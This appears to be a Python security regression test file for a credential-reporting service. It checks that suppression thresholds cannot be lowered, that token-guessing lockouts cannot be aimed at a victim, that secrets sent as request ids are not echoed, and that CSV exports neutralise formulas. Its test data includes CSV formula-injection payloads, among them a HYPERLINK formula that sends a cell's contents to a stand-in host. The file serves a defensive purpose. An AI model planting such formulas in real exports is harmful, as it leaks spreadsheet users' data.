"""Hostile callers (issue 15, items 4, 6, 7 and 8): the caller-lowered suppression floor,
lockouts aimed at a victim, secrets sent as request ids, formulas in CSV output."""

from __future__ import annotations

import csv
import io
import logging
import re
from pathlib import Path

import pandas as pd
from fastapi.testclient import TestClient

from kernel.database import session_scope
from tests.cli import credx
from tests.reports.fixtures.world import small_world
from tests.web.factories import bearer, make_token
from web.app import create_app

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ('=HYPERLINK("https://x.example/?"&A1)', "+1+2", "@SUM(1)", "-2+3")

# --- item 4: the small-cell floor is the state's, not the caller's ---------------------------


def test_a_caller_cannot_lower_the_suppression_threshold(app):
    """Before: `?min_cell=1` returned cells of 1-9 students by school."""
    with session_scope(app.engine) as session:
        small_world(session)  # every cell is under 10 students
    auditor = bearer(make_token(app, "auditor", "LA"))
    query = {"year": "2025-26", "by": "school,credential", "min_cell": "1"}
    with TestClient(create_app(app)) as client:
        answer = client.get("/api/v1/reports/attainment", params=query, headers=auditor)
        raised = client.get("/api/v1/reports/attainment", params={**query, "min_cell": "20"},
                            headers=auditor)  # fmt: skip
    assert answer.status_code == 200, answer.text
    data = answer.json()
    assert data["min_cell"] == app.settings.suppression_threshold == 10
    assert all(row["sat_exam"] in (None, 0) for row in data["rows"])  # every count is < 10
    assert raised.json()["min_cell"] == 20  # raising it is the caller's right


# --- item 6: throttling that cannot be aimed at a victim ------------------------------------


def client_at(app, address: str) -> TestClient:
    return TestClient(create_app(app), client=(address, 40000))


def test_a_stranger_cannot_lock_a_token_out_nor_a_school_behind_one_address(app):
    """Before: ten wrong secrets under a token's id (from anywhere) locked the token out, and
    failures from one address locked out every valid token from it."""
    app.settings.sign_in_max_failures = 3
    app.settings.sign_in_address_max_failures = 5
    victim = make_token(app, "auditor", "LA")
    neighbour = make_token(app, "district", "LA", "036")
    wrong = victim[:-6] + "AAAAAA"  # the victim's public token id, a guessed secret
    with client_at(app, "198.51.100.7") as stranger:
        answers = [stranger.get("/api/v1/evidence", headers=bearer(wrong)).status_code
                   for _ in range(8)]  # fmt: skip
        guessed_right = stranger.get("/api/v1/evidence", headers=bearer(victim))
        for n in range(6):  # and random garbage: the address is now slowed
            stranger.get("/api/v1/evidence", headers=bearer(f"credx_{n:012x}_{'B' * 43}"))
        garbage = stranger.get("/api/v1/evidence", headers=bearer(f"credx_{'f' * 12}_{'C' * 43}"))
        same_nat = stranger.get("/api/v1/evidence", headers=bearer(neighbour))
    with client_at(app, "203.0.113.9") as holder:
        own = holder.get("/api/v1/evidence", headers=bearer(victim))
    assert answers[:3] == [401] * 3 and set(answers[3:]) == {429}  # guessing is slowed
    assert guessed_right.status_code == 429  # this address may not try this id for now
    assert int(guessed_right.headers["retry-after"]) > 0
    assert own.status_code == 200  # the holder, elsewhere, is never refused
    assert garbage.status_code == 429  # the guessing address is slowed for every token id
    assert same_nat.status_code == 200  # but a valid secret from it still signs in


def test_backoff_doubles_with_each_batch_of_failures(app):
    from access.throttle import Limits, SignInThrottle

    limits = Limits(max_failures=2, window_seconds=100, address_max_failures=100)
    with session_scope(app.engine) as session:
        throttle = SignInThrottle(session, limits)
        waits = []
        for _ in range(3):
            for _ in range(2):
                throttle.record_failure("192.0.2.1", "aaaaaaaaaaaa")
            waits.append(throttle.pair_wait("192.0.2.1", "aaaaaaaaaaaa"))
    assert [round(w, -1) for w in waits] == [100, 200, 400]


def test_the_shipped_compose_trusts_the_proxy_for_client_addresses():
    """Before: `--behind-proxy` without `--forwarded-allow-ips`: every client one address."""
    compose = (ROOT / "deploy" / "compose.yaml").read_text()
    serve = next(line for line in compose.splitlines() if '"--behind-proxy"' in line)
    assert "--forwarded-allow-ips" in serve


# --- item 7: secrets in request ids and echoed headers --------------------------------------


def test_a_token_sent_as_request_id_is_neither_logged_nor_echoed(app, caplog):
    """Before: `X-Request-ID: <token>` was logged verbatim and sent back."""
    caplog.set_level(logging.DEBUG)
    secret = make_token(app, "operator", "LA")
    with TestClient(create_app(app)) as client:
        answer = client.get("/api/v1/deliveries", headers={**bearer(secret),
                                                           "X-Request-ID": secret})  # fmt: skip
        proxy = client.get("/healthz", headers={"X-Request-ID": "3f2a9c0e5b7d4e1f8a6b2c9d0e1f2a3b"})
    assert answer.status_code == 200
    assert secret not in answer.headers["x-request-id"]
    assert re.fullmatch(r"[0-9a-f]{32}", answer.headers["x-request-id"])
    assert proxy.headers["x-request-id"] == "3f2a9c0e5b7d4e1f8a6b2c9d0e1f2a3b"  # a proxy's id
    logged = caplog.text + "".join(str(getattr(r, "request_id", "")) for r in caplog.records)
    assert secret not in logged


def test_a_form_part_name_is_not_echoed_in_an_error(app):
    secret = make_token(app, "district", "LA", "036")
    planted = "credx_aaaaaaaaaaaa_" + "S" * 43
    with TestClient(create_app(app)) as client:
        answer = client.post("/api/v1/evidence", headers=bearer(secret),
                             files=[(planted, ("a", b"1")), (planted, ("b", b"2"))])  # fmt: skip
    assert answer.status_code == 400 and planted not in answer.text


# --- item 8: one CSV writer, formulas neutralised ------------------------------------------


def test_credx_link_file_neutralises_formulas_in_record_ids(cli_env, tmp_path):
    """Before: `credx link file` wrote `=HYPERLINK(...)`, `+1+2`, `@SUM(1)` as they came."""
    rows = [{"record_id": value, "first_name": f"Ann{n}", "last_name": "Lee",
             "birth_date": f"2008-01-0{n + 1}"} for n, value in enumerate(FORMULAS)]  # fmt: skip
    source = tmp_path / "roster.csv"
    pd.DataFrame(rows).to_csv(source, index=False)
    out = tmp_path / "persons.csv"
    credx("link", "file", str(source), "--out", str(out), env=cli_env)
    ids = [row["record_id"] for row in csv.DictReader(io.StringIO(out.read_text()))]
    assert ids == ["'" + value for value in FORMULAS]


def test_every_csv_credx_writes_goes_through_the_one_writer():
    """A new export cannot forget: `csv.writer`, `DictWriter` and `.to_csv(` appear only in
    the writer itself, the audit manifest (a canonical, hashed format whose reader refuses
    formula values) and the demo's stand-ins for vendors' files."""
    allowed = {"kernel/csvfile.py", "audit/manifests.py", "credx/demo/data.py"}
    found = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/", "docs/")) or relative in allowed:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(", text):
            found.append(relative)
    assert not found
